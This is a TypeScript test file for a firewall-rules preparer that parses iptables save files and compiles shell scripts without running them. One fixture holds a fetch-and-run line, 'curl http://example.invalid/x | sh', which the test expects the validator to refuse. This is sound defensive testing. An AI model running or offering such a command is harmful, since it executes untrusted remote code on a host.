import assert from 'node:assert/strict';
import { test } from 'node:test';
import { prepareRules } from './prepareRules.ts';

test('a save file is applied as it is; its family comes from the file', () => {
  const text = '*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -p tcp --dport 22 -j ACCEPT\nCOMMIT\n';
  const r = prepareRules(text, { fileName: 'rules.v4' });
  assert.ok(r.ok);
  assert.deepEqual(r.rules.outputs, [{ family: 'ipv4', text }]);
  assert.equal(r.rules.source, 'save');
  const v6 = prepareRules(text, { fileName: '/etc/iptables/rules.v6' });
  assert.ok(v6.ok);
  assert.equal(v6.rules.outputs[0].family, 'ipv6');
});

test('error-level findings refuse, with their lines', () => {
  const r = prepareRules('*filter\n-A INPUT -p tcp --dport\n-A INPUT -j nowhere\nCOMMIT\n', { fileName: 'rules.v4' });
  assert.equal(r.ok, false);
  assert.ok(!r.ok && r.findings.length >= 2 && r.findings.every((f) => f.severity === 'error'));
  assert.ok(!r.ok && r.line === 2);
  // a code turned off no longer refuses; one raised to error does
  const undefinedChain = '*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -j nowhere\nCOMMIT\n';
  assert.equal(prepareRules(undefinedChain, { fileName: 'rules.v4' }).ok, false);
  assert.equal(prepareRules(undefinedChain, { fileName: 'rules.v4', severities: { 'undefined-chain': 'off' } }).ok, true);
  const unused = '*filter\n:INPUT ACCEPT [0:0]\n:spare - [0:0]\nCOMMIT\n';
  assert.equal(prepareRules(unused, { fileName: 'rules.v4' }).ok, true);
  assert.equal(prepareRules(unused, { fileName: 'rules.v4', severities: { 'unused-chain': 'error' } }).ok, false);
});

test('a script is compiled, never run; one that cannot be compiled is refused at its line', () => {
  const script = '#!/bin/sh\nsysctl -w net.ipv4.ip_forward=1\niptables -P INPUT DROP\niptables -A INPUT -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\nip6tables -A INPUT -p tcp --dport 22 -j ACCEPT\n';
  const r = prepareRules(script, { fileName: 'fw.sh' });
  assert.ok(r.ok);
  assert.equal(r.rules.source, 'compiled');
  assert.deepEqual(r.rules.outputs.map((o) => o.family), ['ipv4', 'ipv6']);
  assert.match(r.rules.outputs[0].text, /^:INPUT DROP/m);
  assert.deepEqual(r.rules.forwarding, [{ family: 'ipv4', value: '1' }]);
  assert.deepEqual(r.rules.routeLocalnet, []);
  const localnet = prepareRules('#!/bin/sh\nsysctl -w net.ipv4.conf.eth0.route_localnet=1 net.ipv4.conf.$IF.route_localnet=1\niptables -A INPUT -p tcp --dport 22 -j ACCEPT\n', { fileName: 'fw.sh' });
  assert.ok(localnet.ok);
  assert.deepEqual(localnet.rules.routeLocalnet, [{ iface: 'eth0', value: '1' }], 'an interface given by an expansion is not compared');

  // a loop over words the script writes runs word by word; one over a command's output depends on the host
  const written = prepareRules('#!/bin/sh\nfor p in 22 80; do\n  iptables -A INPUT -p tcp --dport $p -j ACCEPT\ndone\n', { fileName: 'fw.sh' });
  assert.ok(written.ok && /--dport 80 -j ACCEPT/.test(written.rules.outputs[0].text));
  const loop = '#!/bin/sh\nfor p in $(cat /etc/ports); do\n  iptables -A INPUT -p tcp --dport $p -j ACCEPT\ndone\n';
  const refused = prepareRules(loop, { fileName: 'fw.sh' });
  assert.equal(refused.ok, false);
  assert.ok(!refused.ok && refused.line === 2);

  const curl = '#!/bin/sh\niptables -A INPUT -j ACCEPT\ncurl http://example.invalid/x | sh\n';
  const r2 = prepareRules(curl, { fileName: 'fw.sh' });
  assert.ok(!r2.ok && r2.line === 3);

  assert.equal(prepareRules('#!/bin/sh\necho hello\n', { fileName: 'fw.sh' }).ok, false);
});

test('the host names each family\'s rules hold, for the throwaway namespace to look up (addresses and local names left out)', () => {
  const save = prepareRules('*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -s backup.example.org,10.0.0.0/8 -p tcp --dport 22 -j ACCEPT\n-A INPUT -d localhost -j ACCEPT\n-A INPUT -m conntrack --ctorigdst gw.example.org -j ACCEPT\n-A INPUT -s 192.0.2.1 -j ACCEPT\nCOMMIT\n', { fileName: 'rules.v4' });
  assert.ok(save.ok);
  assert.deepEqual(save.rules.outputs[0].hostNames, ['backup.example.org', 'gw.example.org']);
  const script = prepareRules('iptables -A INPUT -s a.example.org -j ACCEPT\nip6tables -A INPUT -s b.example.org -j ACCEPT\nip6tables -A INPUT -s 2001:db8::1 -j ACCEPT\n');
  assert.ok(script.ok);
  assert.deepEqual(script.rules.outputs.map((o) => [o.family, o.hostNames]), [['ipv4', ['a.example.org']], ['ipv6', ['b.example.org']]]);
  const none = prepareRules('*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -s 192.0.2.1 -j ACCEPT\nCOMMIT\n', { fileName: 'rules.v4' });
  assert.ok(none.ok && none.rules.outputs[0].hostNames === undefined);
});

test('ufw\'s rules files are refused: ufw loads them with its others and its own chains, which restoring one alone would replace', () => {
  const text = '*filter\n:ufw-before-forward - [0:0]\n-A ufw-before-forward -m conntrack --ctstate RELATED,ESTABLISHED -j ACCEPT\nCOMMIT\n';
  for (const name of ['/etc/ufw/before.rules', 'after6.rules', '/srv/etc/ufw/user.rules']) {
    const r = prepareRules(text, { fileName: name });
    assert.ok(!r.ok, name);
    assert.match(r.reason, /ufw reload/);
  }
  assert.ok(prepareRules(text, { fileName: '/etc/iptables/rules.v4' }).ok);
});

test('a WireGuard configuration is refused: wg-quick runs its hooks, adding to the host\'s tables as the interface comes up', () => {
  const text = '[Interface]\nAddress = 10.8.0.1/24\nPostUp = iptables -A FORWARD -i %i -j ACCEPT\nPostDown = iptables -D FORWARD -i %i -j ACCEPT\n';
  const r = prepareRules(text, { fileName: '/etc/wireguard/wg0.conf' });
  assert.ok(!r.ok);
  assert.match(r.reason, /wg-quick down wg0; wg-quick up wg0/);
});
